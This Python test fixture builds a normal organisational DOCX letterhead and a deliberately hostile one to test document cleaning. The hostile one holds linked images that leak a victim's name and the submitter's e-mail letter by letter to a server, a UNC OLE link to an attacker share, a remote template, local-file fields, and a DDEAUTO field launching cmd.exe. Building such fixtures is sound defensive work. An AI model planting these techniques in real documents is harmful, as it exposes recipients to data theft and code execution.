"""Letterheads made at test time: a normal one, and one that carries every trick of issue 13.

The normal letterhead is what an organisation shares: a logo in the header, a footer with page
numbers and its website, a body that shows the case. The hostile one is the same letterhead with
everything a DOCX can use to reach out of a document or run something added the way Word writes
it: linked images (one chosen per letter of the victim's name and the submitter's e-mail by a
Jinja loop), a UNC-path OLE link set to update by itself, an embedded OLE package, an ActiveX
control, an external subdocument, a frameset, a mail-merge data source, an altChunk HTML part,
DDEAUTO, INCLUDEPICTURE and INCLUDETEXT fields, a file:// hyperlink, macros and an attached
template.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from io import BytesIO

import docx
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import parse_xml
from docx.shared import Cm
from lxml import etree

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
OD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
NAMESPACES = {
    "w": W,
    "r": R,
    "v": "urn:schemas-microsoft-com:vml",
    "o": "urn:schemas-microsoft-com:office:office",
    "a": "http://schemas.openxmlformats.org/drawingml/2006/main",
    "pic": "http://schemas.openxmlformats.org/drawingml/2006/picture",
    "wp": "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing",
}
NS = " ".join(f'xmlns:{prefix}="{uri}"' for prefix, uri in NAMESPACES.items())
#: Text of the normal letterhead that must survive every cleaning.
ORGANISATION = "Centre for Human Rights Documentation"
WEBSITE = "https://example.org/"
#: Letters a hostile loop can send, each as its own linked image.
ALPHABET = "abcdefghijklmnopqrstuvwxyz@."


def png(width: int = 240, height: int = 60, rgb: tuple[int, int, int] = (0, 92, 151)) -> bytes:
    """A PNG of one colour, big enough to see on a page."""

    def chunk(kind: bytes, payload: bytes) -> bytes:
        body = kind + payload
        return struct.pack(">I", len(payload)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    row = b"\x00" + bytes(rgb) * width
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(row * height))
        + chunk(b"IEND", b"")
    )


def _field(instruction: str, shown: str) -> str:
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>{shown}</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def normal_letterhead() -> bytes:
    """A letterhead as an organisation shares it: logo, page numbers, website, the case."""
    document = docx.Document()
    section = document.sections[0]
    header = section.header.paragraphs[0]
    header.add_run().add_picture(BytesIO(png()), width=Cm(6))
    header.add_run(f"  {ORGANISATION}")
    document.add_paragraph("{{ case.title }}")
    document.add_paragraph("{% for victim in case.victims %}{{ victim.name }} {% endfor %}")
    document.add_paragraph("The facts are set out in the annex.")
    link = document.part.relate_to(WEBSITE, RT.HYPERLINK, is_external=True)
    document.add_paragraph("More: ")._p.append(
        parse_xml(f'<w:hyperlink {NS} r:id="{link}"><w:r><w:t>{WEBSITE}</w:t></w:r></w:hyperlink>')
    )
    footer = section.footer
    web = footer.part.relate_to(WEBSITE, RT.HYPERLINK, is_external=True)
    paragraph = footer.paragraphs[0]
    xml = (
        f'<w:p {NS}><w:r><w:t xml:space="preserve">Page </w:t></w:r>'
        + _field("PAGE", "1")
        + '<w:r><w:t xml:space="preserve"> of </w:t></w:r>'
        + _field("NUMPAGES", "1")
        + '<w:r><w:t xml:space="preserve"> · </w:t></w:r>'
        + f'<w:hyperlink r:id="{web}"><w:r><w:t>{WEBSITE}</w:t></w:r></w:hyperlink></w:p>'
    )
    paragraph._p.addnext(parse_xml(xml))
    buffer = BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def with_body(body: str, linked_images: dict[str, str] | None = None) -> bytes:
    """The normal letterhead with ``body`` (WordprocessingML) added at the end of its body, and
    with external image relationships, id to target, for the pictures it links."""
    members = _read(normal_letterhead())
    for rel_id, target in (linked_images or {}).items():
        relate(members, "word/_rels/document.xml.rels", rel_id, "image", target, external=True)
    document = members["word/document.xml"].decode()
    document = document.replace("<w:sectPr", body + "<w:sectPr", 1)
    members["word/document.xml"] = document.replace(
        "<w:document ", f"<w:document {_extra_ns(document)}", 1
    ).encode()
    return _zip(members)


def hostile_letterhead(server: str) -> bytes:
    """The normal letterhead with every item of issue 13's first list; ``server`` is the base
    address (``http://127.0.0.1:PORT``) the linked images and frames point at."""
    members = _read(normal_letterhead())
    doc_rels = "word/_rels/document.xml.rels"

    # Linked images: one static, and one per character of the victim's name and the
    # submitter's e-mail, picked by the template.
    relate(members, doc_rels, "rIdStatic", "image", f"{server}/static.png", external=True)
    for number, letter in enumerate(ALPHABET):
        relate(members, doc_rels, f"rIdL{number}", "image", f"{server}/{letter}", external=True)
    loop = (
        "{% for c in (case.victims[0].name ~ case.submitters[0].contact.email)|lower %}"
        "{% if c in '"
        + ALPHABET
        + "' %}"
        + linked_picture("rIdL{{ '" + ALPHABET + "'.index(c) }}")
        + "{% endif %}{% endfor %}"
    )
    # A picture from the submitter's disk.
    relate(members, doc_rels, "rIdLocal", "image", "file:///etc/hostname", external=True)
    # An OLE link to a UNC path that updates by itself, an embedded OLE package, ActiveX.
    relate(
        members,
        doc_rels,
        "rIdUnc",
        "oleObject",
        "file://///attacker/share/budget.xlsx",
        external=True,
    )
    members["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 package"
    relate(members, doc_rels, "rIdPkg", "oleObject", "embeddings/oleObject1.bin")
    _default(members, "bin", "application/vnd.openxmlformats-officedocument.oleObject")
    members["word/activeX/activeX1.xml"] = (
        b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        b'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStorage"/>'
    )
    _override(members, "/word/activeX/activeX1.xml", "", "application/vnd.ms-office.activeX+xml")
    relate(members, doc_rels, "rIdAx", "control", "activeX/activeX1.xml")
    # An external subdocument, an altChunk, a file:// hyperlink.
    relate(
        members, doc_rels, "rIdSub", "subDocument", "file:///C:/Cases/secret.docx", external=True
    )
    members["word/afchunk.html"] = f'<html><img src="{server}/altchunk.png"></html>'.encode()
    _default(members, "html", "text/html")
    relate(members, doc_rels, "rIdChunk", "aFChunk", "afchunk.html")
    relate(members, doc_rels, "rIdFile", "hyperlink", "file:///C:/Users/", external=True)
    # Macros.
    members["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 pretend VBA"
    relate(
        members,
        doc_rels,
        "rIdVba",
        "vbaProject",
        "vbaProject.bin",
        rel_type="http://schemas.microsoft.com/office/2006/relationships/vbaProject",
    )

    body = (
        f"<w:p><w:r><w:t>Tracking pixel:</w:t></w:r>{linked_picture('rIdStatic')}</w:p>"
        f"<w:p>{loop}</w:p>"
        f"<w:p>{linked_picture('rIdLocal')}</w:p>"
        '<w:p><w:r><w:object><v:shape id="ole1" style="width:10pt;height:10pt"/>'
        '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="ole1" r:id="rIdUnc" '
        'UpdateMode="Always"><o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject>'
        "</w:object></w:r></w:p>"
        '<w:p><w:r><w:object><v:shape id="ole2" style="width:10pt;height:10pt"/>'
        '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="ole2" r:id="rIdPkg"/>'
        "</w:object></w:r></w:p>"
        '<w:p><w:r><w:object><v:shape id="ax1" style="width:10pt;height:10pt"/>'
        '<w:control r:id="rIdAx" w:name="CommandButton1" w:shapeid="ax1"/>'
        "</w:object></w:r></w:p>"
        '<w:subDoc r:id="rIdSub"/>'
        '<w:altChunk r:id="rIdChunk"/>'
        "<w:p>"
        + _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', "dde")
        + _field(f'INCLUDEPICTURE "{server}/includepicture.png" \\d', "picture")
        + '<w:fldSimple w:instr=" INCLUDETEXT &quot;C:\\\\Users\\\\secret.txt&quot; ">'
        "<w:r><w:t>included</w:t></w:r></w:fldSimple>"
        + '<w:hyperlink r:id="rIdFile"><w:r><w:t>my files</w:t></w:r></w:hyperlink>'
        "</w:p>"
    )
    document = members["word/document.xml"].decode()
    document = document.replace("<w:sectPr", body + "<w:sectPr", 1)
    document = document.replace("<w:document ", f"<w:document {_extra_ns(document)}", 1)
    members["word/document.xml"] = document.encode()

    # A frameset in the web settings.
    members["word/webSettings.xml"] = (
        f'<w:webSettings {NS}><w:frameset><w:frame><w:name w:val="f"/>'
        '<w:sourceFileName r:id="rIdFrame"/></w:frame></w:frameset></w:webSettings>'
    ).encode()
    relate(
        members,
        "word/_rels/webSettings.xml.rels",
        "rIdFrame",
        "frame",
        f"{server}/frame.html",
        external=True,
    )
    # A mail-merge data source and an attached template in the settings.
    settings = etree.fromstring(members["word/settings.xml"])
    merge = etree.fromstring(
        f'<w:mailMerge {NS}><w:mainDocumentType w:val="formLetters"/>'
        '<w:linkToQuery/><w:dataType w:val="native"/>'
        '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=C:\\victims.xlsx"/>'
        '<w:query w:val="SELECT * FROM `Sheet1$`"/><w:dataSource r:id="rIdMerge"/></w:mailMerge>'
    )
    settings.insert(0, merge)
    settings.insert(0, etree.fromstring(f'<w:attachedTemplate {NS} r:id="rIdTemplate"/>'))
    members["word/settings.xml"] = etree.tostring(settings, xml_declaration=True, encoding="UTF-8")
    settings_rels = "word/_rels/settings.xml.rels"
    relate(
        members,
        settings_rels,
        "rIdMerge",
        "mailMergeSource",
        "file:///C:/victims.xlsx",
        external=True,
    )
    relate(
        members,
        settings_rels,
        "rIdTemplate",
        "attachedTemplate",
        f"{server}/template.dotm",
        external=True,
    )
    return _zip(members)


def _extra_ns(document: str) -> str:
    """The namespace declarations the hostile body needs that python-docx's root lacks."""
    start = document.index("<w:document")
    root = document[start : document.index(">", start)]
    return "".join(
        f'xmlns:{prefix}="{uri}" '
        for prefix, uri in NAMESPACES.items()
        if f"xmlns:{prefix}=" not in root
    )


def linked_picture(rel_id: str) -> str:
    """A run with a 1x1 cm picture whose image is linked (``r:link``), not embedded."""
    return (
        '<w:r><w:drawing><wp:inline><wp:extent cx="360000" cy="360000"/>'
        '<wp:docPr id="1" name="linked"/><a:graphic><a:graphicData '
        'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
        '<pic:nvPicPr><pic:cNvPr id="0" name="linked"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill><a:blip r:link="{rel_id}"/><a:stretch><a:fillRect/></a:stretch>'
        '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="360000" '
        'cy="360000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )


def _read(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def relate(
    members: dict[str, bytes],
    rels_name: str,
    rel_id: str,
    kind: str,
    target: str,
    *,
    external: bool = False,
    rel_type: str | None = None,
) -> None:
    if rels_name in members:
        root = etree.fromstring(members[rels_name])
    else:
        root = etree.Element(f"{{{REL}}}Relationships", nsmap={None: REL})
    extra = {"TargetMode": "External"} if external else {}
    etree.SubElement(
        root,
        f"{{{REL}}}Relationship",
        Id=rel_id,
        Type=rel_type or OD + kind,
        Target=target,
        **extra,
    )
    members[rels_name] = etree.tostring(root, xml_declaration=True, encoding="UTF-8")


def _override(members: dict[str, bytes], part: str, kind: str, content_type: str = "") -> None:
    root = etree.fromstring(members["[Content_Types].xml"])
    etree.SubElement(
        root,
        f"{{{CT}}}Override",
        PartName=part,
        ContentType=content_type
        or f"application/vnd.openxmlformats-officedocument.wordprocessingml.{kind}+xml",
    )
    members["[Content_Types].xml"] = etree.tostring(root, xml_declaration=True, encoding="UTF-8")


def _default(members: dict[str, bytes], extension: str, content_type: str) -> None:
    root = etree.fromstring(members["[Content_Types].xml"])
    etree.SubElement(root, f"{{{CT}}}Default", Extension=extension, ContentType=content_type)
    members["[Content_Types].xml"] = etree.tostring(root, xml_declaration=True, encoding="UTF-8")
